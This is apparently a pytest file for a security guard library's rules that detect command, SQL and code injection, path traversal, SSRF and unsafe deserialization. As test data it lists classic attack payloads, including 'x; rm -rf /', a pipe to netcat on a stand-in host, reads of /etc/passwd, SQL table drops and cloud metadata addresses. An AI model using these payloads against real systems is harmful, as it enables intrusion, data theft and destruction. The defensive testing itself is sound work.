"""The guard's rules, one at a time, on the texts and calls they judge (no process, no hooks).

Each injection rule asks one question: does an input value cover more than one
token of the command, statement or code it appears in (or leave a quote open)?
Each rule is checked on the classic payloads, and on benign look-alikes that
must never match."""

import os
import shlex
import types

import pytest

from hookwise.guard import rules, tokens
from hookwise.guard.inputs import Input

SHELL_ATTACKS = ["127.0.0.1; cat /etc/passwd", "x && id", "x || id", "x | nc evil 1", "$(id)", "`id`", "x\nid",
                 "a > /etc/x", "x; rm -rf /", "a'b", "${IFS}id"]


@pytest.mark.parametrize("payload", SHELL_ATTACKS)
def test_shell_payloads_change_a_commands_structure(payload):
    assert tokens.spans_tokens(f"ping -c 1 {payload}", payload, tokens.shell_tokens) is not None


@pytest.mark.parametrize("value", ["127.0.0.1", "report.txt", "a-b_c", "ell"])
def test_plain_words_in_a_command_do_not(value):
    assert tokens.spans_tokens(f"ping -c 1 {value} hello", value, tokens.shell_tokens) is None


@pytest.mark.parametrize("payload", SHELL_ATTACKS)
def test_a_value_quoted_with_shlex_quote_never_matches(payload):
    assert tokens.spans_tokens(f"ping -c 1 {shlex.quote(payload)}", payload, tokens.shell_tokens) is None


def test_substitution_inside_double_quotes_is_structure():
    assert "$(id)" in tokens.spans_tokens('echo "hi $(id)"', "$(id)", tokens.shell_tokens)
    assert tokens.spans_tokens("echo 'hi $(id)'", "$(id)", tokens.shell_tokens) is None


SQL_ATTACKS = ["x' OR '1'='1", "x' UNION SELECT password FROM users --", "x'; DROP TABLE users; --", "x' --",
               "x'/*", "1 OR 1=1"]


@pytest.mark.parametrize("payload", SQL_ATTACKS)
def test_sql_payloads_change_a_statements_structure(payload):
    quoted = f"select * from users where name = '{payload}'"
    bare = f"select * from users where id = {payload}"
    assert tokens.spans_tokens(quoted, payload, tokens.sql_tokens) is not None or \
        tokens.spans_tokens(bare, payload, tokens.sql_tokens) is not None


@pytest.mark.parametrize("value", ["bob", "O''Brien", "it is", "42", "select"])
def test_values_inside_a_literal_do_not(value):
    assert tokens.spans_tokens(f"select * from users where name = '{value}' and id = 42", value,
                               tokens.sql_tokens) is None


def test_a_statement_is_tokenized_once_and_answers_every_input_the_same():
    # a request's path segment ("items") occurs in each of its statements: the spans are remembered
    statement = "select name from items where id = ? -- items"
    counted = []

    def counting(text):
        counted.append(text)
        return tokens.sql_tokens(text)

    answers = [tokens.spans_tokens(statement, value, counting) for value in ("items", "items", "id = ?", "name")]
    assert answers == [tokens.spans_tokens(statement, value, tokens.sql_tokens)
                       for value in ("items", "items", "id = ?", "name")]
    assert answers[2] is not None and answers[0] is None
    assert counted == [statement]
    # a text left open is remembered as such, and still judged by the text without the input
    opened = "select 'x"
    assert [tokens.spans_tokens(opened, value, counting) for value in ("select", "'x", "select")] == [
        None, "'x", None]  # open with or without "select"; "'x" leaves it open
    assert counted.count(opened) == 1


def test_mysql_backslash_escapes_keep_a_string_whole():
    statement = "select * from users where name = 'a\\' or 1=1 -- '"
    assert tokens.spans_tokens(statement, "a\\' or 1=1 -- ", tokens.mysql_tokens) is None
    assert tokens.spans_tokens(statement, "a\\' or 1=1 -- ", tokens.sql_tokens) is not None


@pytest.mark.parametrize("payload", ["__import__('os').system('id')", "1+1", "x); import os; (x", "a if 1 else b"])
def test_python_payloads_change_the_codes_structure(payload):
    assert tokens.spans_tokens(f"result = {payload}", payload, tokens.python_tokens) is not None


@pytest.mark.parametrize("value", ["it's", 'a "quote"', "__import__('os')", "x); import os; (x"])
def test_an_input_inside_a_repr_quoted_literal_never_matches(value):
    assert tokens.spans_tokens(f"len({value!r})", value, tokens.python_tokens) is None


# -- the rules on calls ---------------------------------------------------------------


def fake_call(target, args=(), kwargs=None, arguments=None, semantic=None):
    site = types.SimpleNamespace(semantic=semantic, params=None)
    return types.SimpleNamespace(target=target, args=tuple(args), kwargs=kwargs or {},
                                 arguments=arguments or {}, site=site)


class FakeContext:
    def __init__(self, roots=("/srv/app",), request=None):
        self.request = request
        self.roots = [os.path.realpath(root) for root in roots]

    def inside_roots(self, path):
        resolved = os.path.realpath(path)
        return any(resolved == root or resolved.startswith(root + os.sep) for root in self.roots)

    def is_request_stream(self, value):
        return False


def test_command_rule_reads_shell_true_and_sh_c():
    payload = Input("x; id", "query parameter host")
    shell = fake_call("subprocess:Popen.__init__", arguments={"args": "ping x; id", "shell": True})
    sh_c = fake_call("os:execv", args=("/bin/sh", ["sh", "-c", "ping x; id"]))
    argv = fake_call("subprocess:Popen.__init__", arguments={"args": ["ping", "x; id"], "shell": False})
    assert rules.check_command(shell, [payload], FakeContext())[0] is payload
    assert rules.check_command(sh_c, [payload], FakeContext())[0] is payload
    assert rules.check_command(argv, [payload], FakeContext()) is None  # no shell: one argument, whatever it holds


def test_path_rule_flags_dot_dot_absolute_and_outside_the_roots():
    context = FakeContext()
    for value, path in (("../../etc/passwd", "/srv/app/files/../../etc/passwd"), ("/etc/passwd", "/etc/passwd"),
                        ("secrets", "/var/secrets/key")):
        assert rules.check_path(fake_call("builtins:open", args=(path,)), [Input(value, "query parameter f")],
                                context) is not None, value
    for value, path in (("report.v2.txt", "/srv/app/files/report.v2.txt"), ("a", "/usr/lib/python3/abc.py")):
        assert rules.check_path(fake_call("builtins:open", args=(path,)), [Input(value, "query parameter f")],
                                context) is None, value


@pytest.mark.parametrize("host", ["169.254.169.254", "127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1",
                                  "[::1]", "[::ffff:127.0.0.1]", "10.0.0.5", "192.168.1.1", "[fd00:ec2::254]",
                                  "localhost"])
def test_ssrf_rule_flags_internal_addresses_in_any_spelling(host):
    from hookwise import semantics

    url = f"http://{host}:8080/latest/meta-data"
    semantic = semantics.Http(lambda call: ("GET", url))
    call = fake_call("urllib.request:OpenerDirector.open", semantic=semantic)
    call.site.semantic = semantic
    found = rules.check_ssrf(call, [Input(url, "query parameter url")], FakeContext())
    assert found is not None and found[0].value == url


def test_ssrf_rule_leaves_public_hosts_and_hosts_not_from_input():
    from hookwise import semantics

    for url, value in (("http://93.184.216.34/", "http://93.184.216.34/"), ("http://127.0.0.1/search?q=abc", "abc")):
        semantic = semantics.Http(lambda call, url=url: ("GET", url))
        call = fake_call("urllib.request:OpenerDirector.open", semantic=semantic)
        assert rules.check_ssrf(call, [Input(value, "query parameter url")], FakeContext()) is None


def test_ssrf_rule_leaves_an_input_that_only_equals_a_piece_of_the_host_the_program_chose():
    # the request benchmark's app calls http://127.0.0.1:PORT/price/42 for /items/42: "42" begins the port
    from hookwise import semantics

    for url, value in (("http://127.0.0.1:42817/price/42", "42"), ("http://127.0.0.1/items?page=1", "1"),
                       ("http://127.0.0.1/items/127", "127"), ("http://[::1]:8080/a/1", "1"),
                       ("http://localhost:8000/users/local", "local")):
        semantic = semantics.Http(lambda call, url=url: ("GET", url))
        call = fake_call("urllib.request:OpenerDirector.open", semantic=semantic)
        assert rules.check_ssrf(call, [Input(value, "path segment 2")], FakeContext()) is None, (url, value)


def test_ssrf_rule_flags_an_input_that_chooses_the_host_or_its_leading_labels():
    from hookwise import semantics

    for url, value in (("http://localhost:8080/", "localhost"), ("http://localhost:8080/", "localhost:8080"),
                       ("http://api.example.com@127.0.0.1/", "@127.0.0.1"), ("http://127.0.0.1/x", "http://127.0.0.1/x")):
        semantic = semantics.Http(lambda call, url=url: ("GET", url))
        call = fake_call("urllib.request:OpenerDirector.open", semantic=semantic)
        assert rules.check_ssrf(call, [Input(value, "query parameter url")], FakeContext()) is not None, (url, value)
    # a DNS name's leading labels pick the service (http://{input}.svc.cluster.local/), an IP literal's octets do not
    url = "http://admin.svc.cluster.local/"
    host, start, end = rules.host_of(url)
    assert host == "admin.svc.cluster.local"
    assert rules._steers_host(url, host, start, end, start, start + len("admin"))
    assert not rules._steers_host(url, host, start, end, start + 1, start + len("admin"))  # not a whole label
    url = "http://127.0.0.1/"
    host, start, end = rules.host_of(url)
    assert not rules._steers_host(url, host, start, end, start, start + 3)  # "127"


def test_deserialization_rule_refuses_dangerous_globals_everywhere_and_others_in_requests():
    def find_class(module, name):
        return fake_call("audit:pickle.find_class", arguments={"module": module, "name": name})

    assert rules.check_deserialization(find_class("posix", "system"), [], FakeContext()) is not None
    assert rules.check_deserialization(find_class("builtins", "eval"), [], FakeContext()) is not None
    assert rules.check_deserialization(find_class("myapp.models", "User"), [], FakeContext()) is None
    in_request = FakeContext(request=types.SimpleNamespace(body=None))
    assert rules.check_deserialization(find_class("myapp.models", "User"), [], in_request) is not None
    assert rules.check_deserialization(find_class("collections", "OrderedDict"), [], in_request) is None


def test_every_rule_has_a_stable_id_and_severity():
    assert rules.RULE_IDS == ("command-injection", "path-traversal", "sql-injection", "ssrf",
                              "unsafe-deserialization", "code-injection")
    assert {rule.severity for rule in rules.RULES} <= {"critical", "high"}
